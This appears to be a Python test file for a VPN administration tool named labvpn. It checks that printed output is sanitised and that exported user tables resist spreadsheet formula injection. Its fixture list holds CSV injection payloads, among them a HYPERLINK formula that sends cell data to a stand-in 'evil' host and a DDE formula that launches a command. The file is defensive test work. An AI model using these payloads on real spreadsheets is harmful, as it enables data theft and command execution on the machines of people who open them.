"""Every command's output goes through one of the doors of labvpn.model.untrusted."""

from __future__ import annotations

import ast
from pathlib import Path

import pytest

from labvpn.adopt.users import table
from labvpn.dial import monitor
from labvpn.model.users_file import read_users
from tests.unit.test_untrusted import HOSTILE, STEERING, names

ROOT = Path(__file__).parents[2] / "labvpn"
DOORS = {"plain", "plain_lines", "json_text", "to_json", "text"}
OURS = {
    "labvpn/cli.py": "the administrator's own words and keys of the standard library",
    "labvpn/probe/standalone.py": "JSON in ASCII, for a program",
}
"""Files that print nothing of others beside what is checked elsewhere."""

OWN = {"users", "added", "invited", "name", "number", "COLUMN", "project", "found", "provider", "copy", "len"}
"""What is not of others: numbers, and files and users that the person at the terminal names."""


def texts(path: Path) -> list[str]:
    """The texts of others that a file prints past the doors."""
    found = []
    for call in [node for node in ast.walk(ast.parse(path.read_text())) if isinstance(node, ast.Call)]:
        name = ast.unparse(call.func)
        if name not in ("print", "typer.echo") or not call.args:
            continue
        said = call.args[0]
        door = ast.unparse(said.func).rpartition(".")[2] if isinstance(said, ast.Call) else ""
        inside = {one.id for one in ast.walk(said) if isinstance(one, ast.Name)}
        if door not in DOORS and not inside <= OWN:
            found.append(f"{path.name}:{call.lineno}: {ast.unparse(said)}")
    return found


def test_no_command_prints_a_text_of_others_past_the_doors() -> None:
    files = [path for path in ROOT.rglob("*.py") if "agent" not in path.parts]
    places = {str(path.relative_to(ROOT.parent)): texts(path) for path in files}
    assert {name: found for name, found in places.items() if found and name not in OURS} == {}


@names
def test_a_dial_prints_what_the_server_says_harmlessly(name: str, capsys: pytest.CaptureFixture[str]) -> None:
    monitor._say(1.0, f"the server answers {name.encode('utf-8', 'replace').decode()}")
    said = capsys.readouterr().out
    assert not STEERING.search(said)
    assert said.count("\n") == 1


COMPUTED = [
    *('=HYPERLINK("http://evil/?"&A1)', "@SUM(1)", "+1", "-1", "\t=1", "=cmd|'/c calc'!A1"),
    *("'=1", "''+1", '="1"'),
]


@pytest.mark.parametrize("text", [*COMPUTED, "'quoted'", "plain", "a=b", *HOSTILE.values()])
def test_an_adopted_text_comes_back_as_it_is_and_no_spreadsheet_computes_it(text: str) -> None:
    text = text.encode("utf-8", "replace").decode()
    written = table([{"name": "a", "realName": text, "note": text, "auth": "kept"}])
    assert not any(cell.strip('"').startswith(("=", "+", "-", "@", "\t")) for cell in written.split(","))
    users, problems = read_users(written, "users.csv")
    if not problems:
        assert (users[0].real_name, users[0].note) == (text, text)
    else:
        assert text in HOSTILE.values()
